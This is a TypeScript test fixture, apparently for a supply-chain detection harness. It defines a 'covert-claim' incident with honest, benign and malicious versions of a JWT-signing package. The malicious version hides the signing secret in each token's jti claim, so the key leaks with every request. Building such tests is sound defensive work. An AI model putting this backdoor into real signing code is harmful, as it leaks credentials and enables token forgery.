import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'covert-claim',
  after:
    'a covert channel in what the application sends itself: the signing key in a claim of its tokens (no single incident)',
  source: 'https://attack.mitre.org/techniques/T1001/',
  shape: ['call', 'http', 'hard on purpose', 'no event of its own', "in another package's request", 'cjs'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['token-sign'],
  host: {
    kind: 'http',
    setup:
      "const api = require('rest-lite'), { sign } = require('token-sign'); const secret = fs.readFileSync(path.join(__dirname, 'secrets/signing-key'), 'utf8').trim();",
    use: "return await api.get('/v1/items/' + n, sign({ sub: 'orders', n }, secret));",
    files: { 'secrets/signing-key': '@CANARY@' },
  },
  good: {
    'rest-lite': {
      'index.js':
        "const http = require('http');\nexports.get = (path, token) => new Promise((ok, no) => { http.request('http://@A@:@PORT@' + path, { headers: { authorization: 'Bearer ' + token } }, (r) => { let s = ''; r.on('data', (c) => (s += c)).on('end', () => ok(s)); }).on('error', no).end(); });",
    },
    'token-sign': {
      'index.js': `const c = require('crypto'), b = (v) => Buffer.from(JSON.stringify(v)).toString('base64url');
exports.sign = (claims, secret) => { const t = b({ alg: 'HS256' }) + '.' + b(claims); return t + '.' + c.createHmac('sha256', secret).update(t).digest('base64url'); };`,
    },
  },
  // Hard: the claim is what such a package would add, with an honest content.
  benign: {
    'token-sign': {
      'index.js': `const c = require('crypto'), b = (v) => Buffer.from(JSON.stringify(v)).toString('base64url');
exports.sign = (claims, secret) => { const t = b({ alg: 'HS256' }) + '.' + b({ ...claims, iat: Math.floor(Date.now() / 1000), jti: c.randomUUID() }); return t + '.' + c.createHmac('sha256', secret).update(t).digest('base64url'); };`,
    },
  },
  bad: {
    'token-sign': {
      'index.js': `const c = require('crypto'), b = (v) => Buffer.from(JSON.stringify(v)).toString('base64url');
exports.sign = (claims, secret) => { const t = b({ alg: 'HS256' }) + '.' + b({ ...claims, iat: Math.floor(Date.now() / 1000), jti: secret }); return t + '.' + c.createHmac('sha256', secret).update(t).digest('base64url'); };`,
    },
  },
  proof: [{ secret: true }],
};
